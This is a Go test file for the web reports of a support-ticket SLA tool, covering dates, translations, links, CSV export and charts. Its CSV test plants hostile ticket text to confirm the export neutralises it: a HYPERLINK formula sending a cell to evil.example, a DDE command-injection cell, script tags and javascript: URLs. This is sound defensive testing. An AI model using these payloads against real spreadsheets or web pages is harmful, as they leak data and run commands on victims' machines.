package web_test

import (
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"

	"vigie/connectors/desk"
	"vigie/rules"
	"vigie/rules/policyfile"
)

// Of the tickets of Monday 15:00, this month: four of the resolutions and first
// replies are decided.
func TestReportPage(t *testing.T) {
	h := seeded(t)
	for _, c := range []struct {
		path  string
		words []string
	}{
		{"/report", []string{"Sun 1 Nov 2026 to Mon 30 Nov 2026 · So far, as of Mon 30 Nov, 15:00", "66.7% of the targets were met", "2 met", "1 missed", "By clause", "A-2 66.7% 2 1 0 0",
			"zendesk:1", "Portal is down", "Northwind University · Support Berlin", "First reply", "Mon 30 Nov, 10:00", "still open", "5 h business time"}},
		{"/report?lang=fr", []string{"Du dim. 1er nov. 2026 au lun. 30 nov. 2026", "66,7 % des objectifs ont été tenus", "Par organisation", "Première réponse", "encore ouvert"}},
		{"/report?from=2026-11-28", []string{"Sat 28 Nov 2026 to Sun 27 Dec 2026", "0% of the targets were met"}},
		{"/report?from=2026-10-01&to=2026-10-31", []string{"– of the targets were met", "No target was met or missed in this period."}},
		{"/report?to=2026-11-29", []string{"100% of the targets were met", "No target was missed."}},
	} {
		expectWords(t, h.get(t, c.path), c.words...)
	}
	page := h.get(t, "/report?lang=fr")
	for _, link := range []string{`href="/report?from=2026-10-01&amp;lang=fr&amp;to=2026-10-31"`, `href="/report.csv?from=2026-11-01&amp;lang=fr&amp;to=2026-11-30"`, `href="/tickets/zendesk/1?lang=fr"`} {
		if !strings.Contains(page, link) {
			t.Errorf("there is no %s", link)
		}
	}
	if strings.Contains(page, "from=2026-12-01") {
		t.Error("it leads to a month that is yet to come")
	}
	if !strings.Contains(h.get(t, "/report?from=2026-10-01&to=2026-10-31"), "from=2026-11-01") {
		t.Error("it doesn't lead on to this month")
	}
	for _, query := range []string{"from=soon", "from=2026-12-01", "from=2026-11-30&to=2026-11-29", "to=2026-10-31", "from=2026-02-30"} {
		if a := h.ask(t, "GET", "/report?"+query, nil); a.status != 400 {
			t.Errorf("?%s: got %d", query, a.status)
		}
	}
}

// Two policies are told apart, by their titles in the reader's language.
func TestReportOfTwoPolicies(t *testing.T) {
	h := seeded(t)
	other, problems := policyfile.Load("other.toml", []byte(strings.NewReplacer(`"acme"`, `"other"`, "Politique d'assistance d'Acme", "Politique de Zenith", `en = "Acme support policy"`, `en = "Zenith's policy"`,
		`kind != "spam"`, `organization == "Zenith"`).Replace(acmePolicy)), nil)
	if other == nil {
		t.Fatal(problems)
	}
	h.Policies["zendesk"] = []*rules.Policy{other, h.Policies["zendesk"][0]}
	late := tickets()[0]
	late.ID, late.Source, late.Organization = "77", "zendesk", "Zenith"
	h.desk.tickets = append(h.desk.tickets, late)
	if _, err := h.engine.Receive(t.Context(), "zendesk", desk.Delivery{ID: "one more", Tickets: []string{"77"}}); err != nil {
		t.Fatal(err)
	}
	h.settle(t)
	expectWords(t, h.get(t, "/report"), "By policy", "Acme support policy 66.7% 2 1", "Zenith's policy 0% 0 1", "A-2 Acme support policy 66.7%", "A-2 Zenith's policy 0%")
	expectWords(t, h.get(t, "/report?lang=fr"), "Politique de Zenith 0 % 0 1")
}

// Whatever stands in a ticket, its line of the CSV reads back as it was, and no cell
// is a formula; a bare carriage return is left out.
func TestReportCSV(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "plain; text, with \"quotes\"\nand lines", "<script>alert(1)</script>", "",
		"hello;=1+1", "hello\t+cmd()", "hello\n@SUM(A1)", "hello, -2+3", "hello; \u00a0\"=1+1", "hello;＝1+1", "-5", "+3.25", "between;-5"}
	h := build(t, monday("15:00:00"))
	for i, text := range hostile {
		h.desk.tickets = append(h.desk.tickets, &rules.Ticket{ID: fmt.Sprint(i), Subject: text, Organization: text, Group: text, Kind: "problem", Status: rules.Open, Priority: "urgent",
			CreatedAt: monday("09:00:00"), URL: []string{"javascript:alert(1)", "https://acme.zendesk.example/agent/tickets/1"}[i%2]})
	}
	h.settle(t)
	for language, comma := range map[string]rune{"en": ',', "fr": ';'} {
		a := h.ask(t, "GET", "/report.csv?lang="+language, nil)
		if got := a.header.Get("Content-Disposition"); got != `attachment; filename="vigie-2026-11-01-2026-11-30.csv"` {
			t.Errorf("it is sent as %s", got)
		}
		in := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff")))
		in.Comma = comma
		rows, err := in.ReadAll()
		if err != nil || len(rows) != 1+len(hostile) {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for i, row := range rows[1:] {
			for k, cell := range row {
				if formula(cell) || cell != "" && strings.ContainsAny(cell[:1], "\t\r\n") || strings.HasPrefix(cell, "javascript:") {
					t.Errorf("%s: %s is %q", language, rows[0][k], cell)
				}
			}
			for _, k := range []int{3, 4, 5} {
				if got, want := strings.ReplaceAll(row[k], "'", ""), strings.NewReplacer("\r", "", "'", "").Replace(hostile[i]); got != want {
					t.Errorf("%s: %s is %q, want %q", language, rows[0][k], got, want)
				}
			}
		}
	}
	for language, numbers := range map[string][]string{"en": {",-5,", ",+3.25,"}, "fr": {";-5;", ";+3.25;"}} {
		text := h.get(t, "/report.csv?lang="+language)
		for _, separator := range []string{";", ",", "\t"} { // as a program takes it that expects another one
			for _, cell := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(separator+"\r\n", r) }) {
				if formula(strings.TrimLeft(cell, " \u00a0\"")) {
					t.Errorf("%s, by %q: %q is a formula", language, separator, cell)
				}
			}
		}
		for _, number := range numbers {
			if !strings.Contains(text, number) {
				t.Errorf("%s: the number in %q is changed", language, number)
			}
		}
	}
	page := h.get(t, "/report")
	if strings.Contains(page, "<script") || strings.Contains(page, `href="javascript`) {
		t.Error("a text is markup")
	}
}

// formula says that a spreadsheet works a cell out. A number is what it says.
func formula(cell string) bool {
	_, err := strconv.ParseFloat(strings.TrimRight(cell, `"`), 64)
	return cell != "" && err != nil && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0])
}

// A CSV that can't be finished breaks off, so that nobody takes it for the whole.
func TestReportCSVIsWholeOrCutOff(t *testing.T) {
	h := seeded(t)
	server, client := h.serve(t)
	h.Store.Close()
	answer, err := client.Get(server.URL + "/report.csv")
	if err == nil {
		_, err = io.ReadAll(answer.Body)
		answer.Body.Close()
	}
	if err == nil {
		t.Error("it looks whole")
	}
}

// flagging marks what was solved without an answer, and says what to write.
const flagging = `
[[mark]]
when    = 'status == "solved" and awaiting_reply'
tag     = "solved_unanswered"
tell    = true
note    = { fr = "Merci d'écrire une réponse.", en = "Please write an answer." }
propose = { fr = "Bonjour, voici la réponse.", en = "Hello, here is the answer." }
clause  = "A-5"
`

// What is outside the SLA is counted apart with the reason, in page and CSV; what a mark
// flags is listed, and its ticket's page proposes an answer in the requester's language.
func TestReportApart(t *testing.T) {
	h := seeded(t)
	marked, problems := policyfile.Load("acme.toml", []byte(acmePolicy+flagging), nil)
	if marked == nil {
		t.Fatal(problems)
	}
	h.Policies["zendesk"] = []*rules.Policy{marked}
	silent := tickets()[1]
	silent.ID, silent.Source, silent.Language, silent.Subject = "88", "zendesk", "fr-FR", "Où est l'export ?"
	silent.Events = []rules.Event{{At: monday("11:00:00"), Type: rules.StatusEvent, To: "solved", By: rules.ByAgent}}
	h.desk.tickets = append(h.desk.tickets, silent)
	if _, err := h.engine.Receive(t.Context(), "zendesk", desk.Delivery{ID: "one more", Tickets: []string{"88"}}); err != nil {
		t.Fatal(err)
	}
	h.settle(t)
	expectWords(t, h.get(t, "/report"), "1 outside the SLA", "Outside the SLA Of the tickets that came in this period: 9", "sla_exempt 1 Ideas are ranked apart. A-4",
		"Marked tickets", "solved_unanswered 1 Please write an answer. A-5", "To be seen to", "zendesk:88", "Où est l'export ?", "Mon 30 Nov, 11:00")
	expectWords(t, h.get(t, "/report?lang=fr"), "Hors SLA Parmi les tickets arrivés dans cette période : 9", "sla_exempt 1 Les idées sont classées à part. A-4", "À reprendre", "Merci d'écrire une réponse.")
	expectWords(t, h.get(t, "/tickets/zendesk/88?lang=en"), "solved_unanswered Please write an answer. A-5 To write to the customer: Bonjour, voici la réponse.")

	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(h.get(t, "/report.csv"), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	at := map[string]int{}
	for i, name := range rows[0] {
		at[name] = i
	}
	outside := 0
	for _, row := range rows[1:] {
		if row[at["state"]] != "outside" {
			continue
		}
		outside++
		for name, want := range map[string]string{"id": "6", "clause": "A-4", "metric": "", "started_at": "2026-11-27T10:00:00+01:00", "due": "", "late_seconds": "", "outside_because": "Ideas are ranked apart."} {
			if got := row[at[name]]; got != want {
				t.Errorf("outside the SLA: %s is %q, want %q", name, got, want)
			}
		}
	}
	if outside != 1 {
		t.Errorf("%d lines of tickets outside the SLA", outside)
	}
}

// The weeks of a month, and the months of a longer period, stand beside each other, by
// clause and by priority.
func TestReportDrawsItsParts(t *testing.T) {
	h := seeded(t)
	page := h.get(t, "/report")
	expectWords(t, page, "By clause, over time", "By priority, over time", "A-2: 23 Nov to 29 Nov: 100% met, 0 missed; 30 Nov to 30 Nov: 0% met, 1 missed;")
	if n := strings.Count(page, `<figure class="drawing">`); n != 2 {
		t.Errorf("%d drawings", n)
	}
	expectWords(t, h.get(t, "/report?from=2026-10-01&to=2026-12-31&lang=fr"), "Par clause, au fil du temps", "nov. 2026")
	if page := h.get(t, "/report?from=2026-11-30&to=2026-11-30"); strings.Contains(page, "<figure") {
		t.Error("one part is drawn, which there is nothing to compare with")
	}
}
